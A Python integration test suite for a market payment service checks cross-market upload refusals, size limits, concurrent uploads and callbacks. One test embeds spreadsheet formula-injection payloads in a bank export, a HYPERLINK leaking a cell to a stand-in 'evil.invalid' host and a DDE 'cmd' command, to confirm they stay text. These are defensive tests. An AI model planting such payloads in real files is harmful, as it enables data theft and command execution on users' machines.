"""The insider review of issue 24's statement paths against the real service (gunicorn, several
workers, real HTTP, SQLite and PostgreSQL): two markets in two former districts, a manager per
market, region staff per district, a vendor and an assistant. Every format aimed at the other
market's account is refused (403) naming nothing of it; those who may not upload are refused before
the body is read; ten identical uploads at once make one run; a formula planted in a bank export
stays text in the breaks download."""

import io
import json
import re
import socket
import threading
import time
from datetime import datetime, timedelta
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import pytest
import requests
from openpyxl import Workbook
from sqlalchemy import create_engine, text

from market_pay.payments.signatures import sign_simbank
from market_pay.reconciliation.formats.xlsx import layouts
from tests.conftest import PG_URL
from tests.reconciliation.statements import line, write_statement
from tests.servers import ROOT, cli, fresh_database_url, gunicorn, service_env

pytestmark = pytest.mark.slow
PASSWORD, SECRET, PIN = "insider-password-1", "insider-simbank-secret", "246813"
A_ACCOUNT = ("970422", "1900000000008")  # market DV (Đồng Văn), the MB layout's bank
B_ACCOUNT = ("970436", "0011001234567")  # market MV (Mèo Vạc), the Vietcombank layout's bank
STALLS = {
    "DV": f"stall_code,display_name,phone,bin,account_number,account_name\n"
    f"A-01,Rau bà Hoa,0987000001,{A_ACCOUNT[0]},{A_ACCOUNT[1]},NGUYEN THI HOA\n",
    "MV": f"stall_code,display_name,phone,bin,account_number,account_name\n"
    f"B-01,Thịt ông Bình,0987000002,{B_ACCOUNT[0]},{B_ACCOUNT[1]},TRAN VAN BINH\n",
}
USERS = [
    ("admin.one", "admin", None),
    ("ql.dongvan", "market_manager", "DV"),
    ("ql.meovac", "market_manager", "MV"),
    ("pv.dongvan", "region_staff", "026"),  # the former district of Đồng Văn
    ("pv.meovac", "region_staff", "027"),  # the former district of Mèo Vạc
]
B_WORDS = ("MV", "Mèo Vạc", "B-01", "Thịt ông Bình", "TRAN VAN BINH", "ql.meovac")
RACERS = 10
VIETNAM = ZoneInfo("Asia/Ho_Chi_Minh")  # the service's zone (its default)


@pytest.fixture(scope="module", params=["sqlite"] + (["postgresql"] if PG_URL else []))
def service(request, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("insiders")
    url = fresh_database_url(request.param, tmp, PG_URL)
    env = service_env(url)
    cli(env, "db", "upgrade")
    cli(env, "regions", "import", str(ROOT / "market_pay/data/regions_ha_giang.csv"))
    cli(env, "markets", "create", "--code", "DV", "--name", "Chợ Đồng Văn", "--region", "00721")
    cli(env, "markets", "create", "--code", "MV", "--name", "Chợ Mèo Vạc", "--region", "00769")
    for code, stalls in STALLS.items():
        (tmp / f"{code}.csv").write_text(stalls, encoding="utf-8")
        cli(env, "vendors", "import", str(tmp / f"{code}.csv"), "--market", code)
    for username, role, scope in USERS:
        cli(env, "users", "create", "--username", username, "--password", PASSWORD, "--role", role,
            *(["--scope", scope] if scope else []))  # fmt: skip
    cli(env, "users", "create", "--username", "0987000001", "--password", PIN, "--role", "vendor", "--scope", "DV/A-01")
    cli(env, "users", "create", "--username", "0987000009", "--password", PIN, "--role", "vendor_assistant",
        "--scope", "DV/A-01")  # fmt: skip
    cli(env, "partners", "set", "simbank", "--secret", SECRET)
    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with gunicorn(env, workers=3, threads=4) as base:
        tokens = {
            username: requests.post(
                f"{base}/api/v1/auth/token", json={"username": username, "password": secret}, timeout=30
            ).json()["token"]
            for username, secret in [(u, PASSWORD) for u, _, _ in USERS] + [("0987000001", PIN), ("0987000009", PIN)]
        }
        yield base, engine, tokens, tmp
    engine.dispose()


def one(engine, sql, **values):
    with engine.connect() as conn:
        return conn.execute(text(sql), values).scalar()


def upload(base, token, payload: bytes, name: str, **fields):
    return requests.post(
        f"{base}/api/v1/statements",
        headers={"Authorization": f"Bearer {token}"},
        files={"file": (name, payload)},
        data={"partner": "simbank", **fields},
        timeout=120,
    )


def yesterday() -> str:
    return (datetime.now(VIETNAM) - timedelta(days=1)).date().isoformat()


# -- each format, aimed at the other market's account ------------------------------------------------
def _csv(tmp, account, day="2026-11-21"):
    path = write_statement(
        tmp / "s.csv", [(*account, 0, [line("SIM-X1", "FTX1", f"{day}T09:00:00+07:00", 10_000)], None)]
    )
    return path.read_bytes(), "s.csv", {}


def _mt940(account):
    return (
        (
            f":20:STMT1\n:25:{account[0]}/{account[1]}\n:28C:1/1\n:60F:C261121VND0,\n"
            ":61:2611211121C10000,NTRFNONREF//FT1\n:86:CHUYEN TIEN\n:62F:C261121VND10000,\n-\n"
        ).encode(),
        "s.sta",
        {},
    )


def _camt(account, kind="053"):
    block, root = ("Stmt", "BkToCstmrStmt") if kind == "053" else ("Ntfctn", "BkToCstmrDbtCdtNtfctn")
    balance = (
        '<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="VND">0</Amt><CdtDbtInd>CRDT</CdtDbtInd></Bal>'
    )
    return (
        (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.{kind}.001.08">'
            f"<{root}>\n<{block}><Id>S1</Id><Acct><Id><Othr><Id>{account[1]}</Id></Othr></Id><Svcr><FinInstnId><Othr>"
            f"<Id>{account[0]}</Id></Othr></FinInstnId></Svcr></Acct>\n{balance if kind == '053' else ''}\n"
            '<Ntry><Amt Ccy="VND">10000</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts>'
            "<BookgDt><DtTm>2026-11-21T09:00:00+07:00</DtTm></BookgDt><AcctSvcrRef>FT1</AcctSvcrRef>"
            "<NtryDtls><TxDtls><RmtInf><Ustrd>CHUYEN TIEN</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>\n"
            f"</{block}></{root}></Document>\n"
        ).encode(),
        "s.xml",
        {},
    )


def _xlsx(account, rows=(("21/11/2026 09:00:00", "FT1", 10000, "CHUYEN TIEN"),)):
    """A bank export in the layout of the account's bank; every text cell a plain text cell (so a
    leading "=" is what the bank's file says, not a formula openpyxl would drop)."""
    layout = next(item for item in layouts()["layouts"] if item["bin"] == account[0])
    columns = layout["columns"]
    book = Workbook()
    sheet = book.active
    sheet.append(["Số tài khoản:", account[1]])
    sheet.append(["Số dư đầu kỳ:", 0])
    heads = ["date", "reference", "debit", "credit", "balance", "content"]
    sheet.append(["STT", *(columns[role][0] for role in heads)])
    balance = 0
    for number, (when, reference, credit, content) in enumerate(rows, start=1):
        balance += credit
        sheet.append([number, when, reference, None, credit, balance, content])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue(), "s.xlsx", {"account": "/".join(account)}


FORMATS = {
    "csv": _csv,
    "mt940": lambda tmp, account: _mt940(account),
    "camt053": lambda tmp, account: _camt(account, "053"),
    "camt054": lambda tmp, account: _camt(account, "054"),
    "xlsx": lambda tmp, account: _xlsx(account),
}


@pytest.mark.parametrize("statement_format", list(FORMATS))
def test_every_format_for_the_other_market_is_refused_naming_nothing_of_it(service, statement_format):
    base, engine, tokens, tmp = service
    payload, name, fields = FORMATS[statement_format](tmp, B_ACCOUNT)
    before = (
        one(engine, "SELECT count(*) FROM reconciliation_run"),
        one(engine, "SELECT count(*) FROM bank_transaction"),
    )
    for username in ("ql.dongvan", "ql.meovac", "0987000001", "0987000009"):  # may not reconcile at all
        response = upload(base, tokens[username], payload, name, **fields)
        assert response.status_code == 403, (username, response.text[:300])
    response = upload(base, tokens["pv.dongvan"], payload, name, **fields)
    assert response.status_code == 403, response.text[:300]
    assert not [word for word in B_WORDS if word in response.text], response.text
    after = (
        one(engine, "SELECT count(*) FROM reconciliation_run"),
        one(engine, "SELECT count(*) FROM bank_transaction"),
    )
    assert after == before
    # The file itself is good: B's own region staff reconcile it.
    assert upload(base, tokens["pv.meovac"], payload, name, **fields).status_code in (200, 201)


# -- refused before the body is read -----------------------------------------------------------------
def _refused_without_the_body(base, path, headers: dict, length: int) -> int:
    """The status the service answers to a request announcing `length` bytes of which it sends
    none: an answer at all proves the refusal came before the body was read."""
    parts = urlsplit(base)
    with socket.create_connection((parts.hostname, parts.port), timeout=20) as sock:
        head = f"POST {path} HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Length: {length}\r\n"
        head += "".join(f"{key}: {value}\r\n" for key, value in headers.items()) + "\r\n"
        sock.sendall(head.encode("latin-1"))
        answer = sock.recv(4096).decode("latin-1")
    return int(answer.split(" ", 2)[1])


def test_those_who_may_not_upload_are_refused_before_the_body_is_read(service):
    base, _, tokens, _ = service
    multipart = {"Content-Type": "multipart/form-data; boundary=x"}
    for username in ("ql.dongvan", "0987000001", "0987000009"):
        headers = {**multipart, "Authorization": f"Bearer {tokens[username]}"}
        assert _refused_without_the_body(base, "/api/v1/statements", headers, 10_000_000) == 403
    # Region staff: beyond their role's limit, 413 from the announced length alone.
    headers = {**multipart, "Authorization": f"Bearer {tokens['pv.dongvan']}"}
    assert _refused_without_the_body(base, "/api/v1/statements", headers, 65 * 1024 * 1024) == 413


def test_a_chunked_upload_beyond_the_role_s_limit_is_413_not_a_500(service):
    """Without a Content-Length the limit cannot be told up front: the body is read up to the
    role's limit (64 MB for region staff) and refused there, nothing written."""
    base, engine, tokens, _ = service
    runs = one(engine, "SELECT count(*) FROM reconciliation_run")
    head = (
        b'--x\r\nContent-Disposition: form-data; name="partner"\r\n\r\nsimbank\r\n'
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="s.csv"\r\nContent-Type: text/csv\r\n\r\n'
    )

    def body():
        yield head
        block = b"x" * (1 << 20)
        for _ in range(66):  # past 64 MB
            yield block
        yield b"\r\n--x--\r\n"

    try:
        response = requests.post(
            f"{base}/api/v1/statements",
            headers={
                "Authorization": f"Bearer {tokens['pv.dongvan']}",
                "Content-Type": "multipart/form-data; boundary=x",
            },
            data=body(),
            timeout=120,
        )
        status = response.status_code
    except requests.ConnectionError:  # the service answered and closed while the client still sent
        status = 413
    assert status == 413
    assert one(engine, "SELECT count(*) FROM reconciliation_run") == runs


def _office(base, username):
    session = requests.Session()
    token = re.search(r'name="csrf-token" content="([^"]+)"', session.get(f"{base}/office/login").text).group(1)
    response = session.post(
        f"{base}/office/login",
        data={"username": username, "password": PASSWORD, "csrf_token": token},
        allow_redirects=False,
        timeout=30,
    )
    assert response.status_code == 302, response.text[:300]
    page = session.get(f"{base}/office/login")
    return session, re.search(r'name="csrf-token" content="([^"]+)"', page.text).group(1)


def test_the_office_upload_to_another_market_is_refused_before_the_body_is_read(service):
    """Region staff posting a statement to another district's market page: 403 from the address
    and the session alone, not after their role's 64 MB have been received and parsed."""
    base, _, _, _ = service
    session, token = _office(base, "pv.dongvan")
    cookie = "; ".join(f"{key}={value}" for key, value in session.cookies.items())
    headers = {"Cookie": cookie, "X-CSRF-Token": token, "Content-Type": "multipart/form-data; boundary=x"}
    assert _refused_without_the_body(base, "/office/m/MV/reconciliation", headers, 60_000_000) in (403, 404)


# -- ten identical uploads at once -----------------------------------------------------------------------
def test_ten_identical_uploads_at_once_make_one_run(service):
    base, engine, tokens, tmp = service
    day = yesterday()
    path = write_statement(
        tmp / "race.csv",
        [(*A_ACCOUNT, 0, [line("SIM-R1", "FTR1", f"{day}T09:00:00+07:00", 30_000, description="MUA RAU")], None)],
    )
    payload = path.read_bytes()
    runs = one(engine, "SELECT count(*) FROM reconciliation_run")
    audits = one(engine, "SELECT count(*) FROM audit_log WHERE action = 'reconcile'")
    barrier, answers = threading.Barrier(RACERS), []

    def send():
        barrier.wait()
        answers.append(upload(base, tokens["pv.dongvan"], payload, "race.csv"))

    threads = [threading.Thread(target=send) for _ in range(RACERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    codes = sorted(answer.status_code for answer in answers)
    assert codes == [200] * (RACERS - 1) + [201], [answer.text[:200] for answer in answers]
    assert len({answer.json()["id"] for answer in answers}) == 1
    assert one(engine, "SELECT count(*) FROM reconciliation_run") == runs + 1
    assert one(engine, "SELECT count(*) FROM audit_log WHERE action = 'reconcile'") == audits + 1
    assert one(engine, "SELECT count(*) FROM bank_transaction WHERE statement_txn_id = 'SIM-R1'") == 1


def test_ten_identical_office_uploads_at_once_make_one_run(service):
    base, engine, _, tmp = service
    day = yesterday()
    path = write_statement(
        tmp / "office-race.csv",
        [(*A_ACCOUNT, 0, [line("SIM-O1", "FTO1", f"{day}T11:00:00+07:00", 35_000, description="MUA")], None)],
    )
    payload = path.read_bytes()
    session, token = _office(base, "pv.dongvan")
    runs = one(engine, "SELECT count(*) FROM reconciliation_run")
    barrier, answers = threading.Barrier(RACERS), []

    def send():
        own = requests.Session()
        own.cookies.update(session.cookies)
        barrier.wait()
        answers.append(
            own.post(
                f"{base}/office/m/DV/reconciliation",
                files={"file": ("office-race.csv", payload)},
                data={"partner": "simbank", "csrf_token": token},
                allow_redirects=False,
                timeout=120,
            )
        )

    threads = [threading.Thread(target=send) for _ in range(RACERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [answer.status_code for answer in answers] == [302] * RACERS, [a.text[:200] for a in answers]
    assert len({answer.headers["Location"] for answer in answers}) == 1  # the one run, for all ten
    assert one(engine, "SELECT count(*) FROM reconciliation_run") == runs + 1
    assert one(engine, "SELECT count(*) FROM bank_transaction WHERE statement_txn_id = 'SIM-O1'") == 1


# -- a formula in a bank's export, in someone's download -------------------------------------------------
def test_a_formula_in_a_bank_export_stays_text_in_the_breaks_download(service):
    base, _, tokens, _ = service
    formula = '=HYPERLINK("http://evil.invalid/?"&A1,"FT9")'
    payload, name, fields = _xlsx(A_ACCOUNT, [("20/11/2026 10:00:00", formula, 12_000, "=1+1 cmd|' /C calc'!A0")])
    response = upload(base, tokens["pv.dongvan"], payload, name, **fields)
    assert response.status_code == 201, response.text[:300]
    run_id = response.json()["id"]
    for username in ("ql.dongvan", "pv.dongvan", "admin.one"):
        download = requests.get(
            f"{base}/api/v1/reconciliation-runs/{run_id}/breaks.csv",
            headers={"Authorization": f"Bearer {tokens[username]}"},
            timeout=30,
        )
        assert download.status_code == 200
        assert formula.replace('"', '""') in download.text  # the reference is there, as text
        assert ",=" not in download.text and ',"=' not in download.text
    # Not readable by the other market at all.
    other = requests.get(
        f"{base}/api/v1/reconciliation-runs/{run_id}/breaks.csv",
        headers={"Authorization": f"Bearer {tokens['ql.meovac']}"},
        timeout=30,
    )
    assert other.status_code == 404


# -- who reads what of a run -------------------------------------------------------------------------
def test_the_runs_list_and_the_audit_log_show_a_market_s_run_to_its_people_only(service):
    base, _, tokens, tmp = service
    day = yesterday()
    path = write_statement(
        tmp / "dv.csv",
        [(*A_ACCOUNT, 0, [line("SIM-L1", "FTL1", f"{day}T08:00:00+07:00", 40_000, description="MUA")], None)],
    )
    response = upload(base, tokens["pv.dongvan"], path.read_bytes(), "dv.csv")
    assert response.status_code == 201, response.text[:300]
    run_id = response.json()["id"]

    def get(username, path):
        return requests.get(f"{base}{path}", headers={"Authorization": f"Bearer {tokens[username]}"}, timeout=30)

    for username in ("ql.dongvan", "pv.dongvan", "admin.one"):
        listed = [item["id"] for item in get(username, "/api/v1/reconciliation-runs?limit=100").json()["items"]]
        assert run_id in listed, username
        log = get(username, "/api/v1/audit-log?action=reconcile&limit=100").json()["items"]
        assert any(item["action"] == "reconcile" and item["entity"] == f"reconciliation_run:{run_id}" for item in log)
    for username in ("ql.meovac", "pv.meovac"):
        listed = [item["id"] for item in get(username, "/api/v1/reconciliation-runs?limit=100").json()["items"]]
        assert run_id not in listed, username
        assert get(username, f"/api/v1/reconciliation-runs/{run_id}").status_code == 404
        log = json.dumps(
            [
                get(username, f"/api/v1/audit-log?action={action}&limit=100").json()
                for action in ("reconcile", "reconcile.stall")
            ]
        )
        assert "SIM-L1" not in log and "dv.csv" not in log
        assert f"reconciliation_run:{run_id}" not in log
    for username in ("0987000001", "0987000009"):
        assert get(username, "/api/v1/reconciliation-runs").status_code == 403


def test_a_genuine_callback_after_a_region_staff_upload_of_today_is_credited(service):
    """Finding 1 over real HTTP: today's statement is refused for region staff (it would have taken
    the money key of a callback still to come)."""
    base, _, tokens, tmp = service
    soon = datetime.now(VIETNAM) + timedelta(minutes=10)
    path = write_statement(
        tmp / "today.csv",
        [(*A_ACCOUNT, 0, [line("SIM-T1", "FTT1", soon.isoformat(timespec="seconds"), 25_000)], None)],
    )
    response = upload(base, tokens["pv.dongvan"], path.read_bytes(), "today.csv", date=soon.date().isoformat())
    assert response.status_code == 422, response.text[:300]
    body = json.dumps(
        {
            "transaction_id": "SIM-T1",
            "bank_reference": "FTT1",
            "bin": A_ACCOUNT[0],
            "account_number": A_ACCOUNT[1],
            "amount": 25_000,
            "direction": "in",
            "description": "chuyen tien",
            "booked_at": soon.isoformat(timespec="seconds"),
        }
    ).encode()
    answer = requests.post(
        f"{base}/api/v1/callbacks/simbank",
        data=body,
        headers={"X-Signature": sign_simbank(SECRET, body, int(time.time())), "Content-Type": "application/json"},
        timeout=30,
    )
    assert answer.status_code == 200 and answer.json() == {"status": "accepted"}, answer.text
